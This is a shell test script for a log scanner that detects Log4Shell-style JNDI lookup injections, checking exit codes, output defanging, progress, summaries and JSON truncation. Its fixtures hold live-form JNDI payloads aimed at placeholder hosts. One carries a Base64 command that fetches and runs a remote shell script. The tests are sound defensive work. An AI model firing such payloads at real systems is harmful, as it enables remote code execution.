#!/usr/bin/env bash
# logs_exit.sh -- exit status and output switches of `defuse logs`:
# 0 clean, 1 findings, 2 errors (even with findings), -q prints nothing,
# --kind filters (and decides the status), bad options exit 2, --help,
# human output is defanged (no live "${", no "://"), colour only on request.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
printf 'GET /a\nGET /b?tpl=${user.name}\n' > clean.log
printf 'x ${jndi:ldap://evil.example/a}\ny ${env:USER}\n' > hit.log

"$DEFUSE" logs clean.log > out.txt; expect_rc 0 $? "clean"
[ -s out.txt ] && fail "clean output not empty" || ok "clean prints nothing"
"$DEFUSE" logs hit.log > out.txt; expect_rc 1 $? "findings"
expect_grep 'hit.log:1: jndi ldap[:]//evil[.]example/a' out.txt "human format file:line: kind callback"
expect_nogrep '${' out.txt "no live \${ in human output"
expect_nogrep '://' out.txt "no live :// in human output"
"$DEFUSE" logs hit.log nothere.log > out.txt 2> err.txt; expect_rc 2 $? "findings + error = 2"
expect_grep "nothere.log" err.txt "error names the file"
"$DEFUSE" logs -q hit.log > out.txt; expect_rc 1 $? "-q with findings"
[ -s out.txt ] && fail "-q printed something" || ok "-q prints nothing"
"$DEFUSE" logs -q --summary hit.log > out.txt; expect_rc 1 $? "-q --summary"
[ -s out.txt ] && fail "-q --summary printed something" || ok "-q beats --summary"
"$DEFUSE" logs -q clean.log; expect_rc 0 $? "-q clean"
"$DEFUSE" logs --kind=lookup hit.log > out.txt; expect_rc 0 $? "--kind=lookup: a lookup alone does not fail (--fail-on default)"
expect_nogrep ": jndi" out.txt "--kind=lookup hides jndi"
expect_grep "hit.log:2: lookup" out.txt "--kind=lookup shows the lookup"
# --fail-on: which kinds make the exit status 1. Default: those log4j acts
# on with a request (jndi, text4shell, recursion), as the nginx module blocks.
printf 'a ${env:USER}
b $${jndi:ldap://x.example/a}
' > quiet.log
"$DEFUSE" logs quiet.log > out.txt; expect_rc 0 $? "lookup and inert findings only: exit 0 by default"
expect_grep "quiet.log:1: lookup" out.txt "... but they are printed"
"$DEFUSE" logs --fail-on=any quiet.log > /dev/null; expect_rc 1 $? "--fail-on=any"
"$DEFUSE" logs --fail-on=inert quiet.log > /dev/null; expect_rc 1 $? "--fail-on=inert"
"$DEFUSE" logs --fail-on=none hit.log > /dev/null; expect_rc 0 $? "--fail-on=none"
"$DEFUSE" logs --fail-on=bogus hit.log 2> err.txt; expect_rc 2 $? "--fail-on=bogus"
expect_grep "fail-on" err.txt "--fail-on error names the option"
"$DEFUSE" logs --kind=text4shell,recursion hit.log > out.txt; expect_rc 0 $? "--kind filter decides the status"
"$DEFUSE" logs --kind=bogus hit.log 2> err.txt; expect_rc 2 $? "unknown kind"
expect_grep "bogus" err.txt "unknown kind named"
"$DEFUSE" logs --jobs=0 hit.log 2>/dev/null; expect_rc 2 $? "--jobs=0 rejected"
"$DEFUSE" logs --max-line=abc hit.log 2>/dev/null; expect_rc 2 $? "--max-line=abc rejected"
"$DEFUSE" logs --no-such-option hit.log 2>/dev/null; expect_rc 2 $? "unknown option"
"$DEFUSE" logs --help > out.txt; expect_rc 0 $? "--help"
expect_grep "EXIT STATUS" out.txt "help has an exit status section"
expect_grep "--follow" out.txt "help documents --follow"
expect_nogrep '%%' out.txt "help shows no printf escape (%%24)"
if command -v script >/dev/null; then
  # No PATH with a terminal on stdin: it says it reads standard input.
  timeout 5 script -qec "$DEFUSE logs" /dev/null < /dev/null > tty.txt 2>&1
  expect_grep "reading standard input" tty.txt "no PATH on a terminal: says it reads stdin"
else
  ok "script(1) not installed: terminal case skipped"
fi
# The progress line: throttled, and erased before a finding on the same
# terminal (it was redrawn per file and the first finding glued to it).
mkdir -p many
for i in $(seq 1 1500); do echo "plain line $i" > many/f$i.log; done
printf '%s\n' '${jndi:ldap://progress.example/a}' > many/f750.log
t0=$(date +%s)
"$DEFUSE" logs --progress -j1 many > /dev/null 2> err.txt
secs=$(( $(date +%s) - t0 + 2 ))   # a line a second, the first and the final one
n=$(grep -o 'files,' err.txt | wc -l)
[ "$n" -le "$secs" ] && ok "--progress on a pipe: $n lines in under $secs s (at most one a second)" \
  || fail "--progress on a pipe drew $n lines in under $secs s"
if command -v script >/dev/null; then
  t0=$(date +%s)
  timeout 60 script -qec "$DEFUSE logs --progress -j1 many" /dev/null < /dev/null > tty.txt 2>&1
  export SECS=$(( $(date +%s) - t0 + 1 ))
  python3 - <<'PY' && ok "--progress on a terminal: erased before a finding, throttled" \
    || fail "--progress on a terminal"
t = open("tty.txt", encoding="latin-1").read()
line = [l for l in t.split("\n") if "jndi" in l]
assert line, t[-300:]
import re
shown = re.sub("\033\\[[0-9;]*m", "", line[0].replace("\r", "").split("\033[K")[-1])
assert shown.startswith("many/f750.log:1: jndi"), repr(line[0][-200:])
import os
assert t.count("files,") <= 10 * int(os.environ["SECS"]) + 2, (t.count("files,"), os.environ["SECS"])
PY
fi
# --summary: commands that are not text (a kit's Base64 placeholder) are
# counted, not listed; paths that could not be read are counted.
printf '%s\n' '${jndi:ldap://a.example/TomcatBypass/Command/Base64/XXXX}' \
  '${jndi:ldap://b.example/Basic/Command/Base64//XXXX}' \
  '${jndi:ldap://c.example/Basic/Command/Base64/d2dldCBodHRwOi8veC5leGFtcGxlL3NofHNo}' > kit.log
"$DEFUSE" logs --summary kit.log /nonexistent/x 2>/dev/null | sed -n '/== defuse logs summary ==/,$p' > out.txt
expect_nogrep ']u' out.txt "summary: no binary placeholder listed as a command"
expect_nogrep '/XXXX' out.txt "summary: no undecodable Base64 listed as a command"
expect_grep 'Decoded commands (1 distinct)' out.txt "summary: the text command listed"
expect_grep '1 more decode to bytes that are not text' out.txt "summary: the placeholder counted"
expect_grep '1 paths could not be read' out.txt "summary: unreadable paths counted"
"$DEFUSE" logs --summary --json kit.log /nonexistent/x 2>/dev/null | tail -1 > out.json
python3 -c '
import json; o = json.load(open("out.json"))
assert o["unreadable_paths"] == 1 and o["commands_not_text"] == 1, o' \
  && ok "summary JSON: unreadable_paths, commands_not_text" || fail "summary JSON counts"
"$DEFUSE" logs --color=always hit.log > out.txt
grep -q $'\033\[' out.txt && ok "--color=always colours" || fail "--color=always"
NO_COLOR=1 "$DEFUSE" logs hit.log > out.txt
grep -q $'\033\[' out.txt && fail "colour on a pipe" || ok "no colour on a pipe"
"$DEFUSE" logs --progress hit.log > /dev/null 2> err.txt
expect_grep "1/1 files" err.txt "--progress shows files"
expect_grep "MB/s" err.txt "--progress shows MB/s"
"$DEFUSE" logs hit.log > /dev/null 2> err.txt
[ -s err.txt ] && fail "progress without a terminal" || ok "no progress on a pipe by default"
# a huge callback is cut for people; in JSON a field past 4 KiB keeps its
# start, its length and its SHA-256 (DEFUSE_JSON_MAX_FIELD)
python3 -c 'print("${jndi:ldap://x.example/" + "A" * 5000 + "}")' > longcb.log
"$DEFUSE" logs longcb.log > out.txt
[ "$(wc -c < out.txt)" -lt 600 ] && ok "human line cut" || fail "human line not cut: $(wc -c < out.txt) bytes"
expect_grep "...(5017 bytes)" out.txt "cut is announced with the full length"
"$DEFUSE" logs --json longcb.log > out.json
python3 -c '
import json; r = json.loads(open("out.json").readline())
import hashlib; whole = "ldap://x.example/" + "A" * 5000
assert whole.startswith(r["callback"]) and 1024 <= len(r["callback"]) < len(whole), len(r["callback"])
assert r["callback_length"] == len(whole) and r["truncated"] is True
assert r["callback_sha256"] == hashlib.sha256(whole.encode()).hexdigest()' && ok "JSON keeps the callback's start, length and SHA-256" || fail "JSON callback not bounded as documented"
# several jobs give the same output as one
for i in $(seq 1 20); do cp hit.log "h$i.log"; done
"$DEFUSE" logs -j1 h*.log > one.txt; "$DEFUSE" logs -j2 h*.log > two.txt
cmp -s one.txt two.txt && ok "-j2 output equals -j1 output, in order" || fail "-j2 differs from -j1"
finish
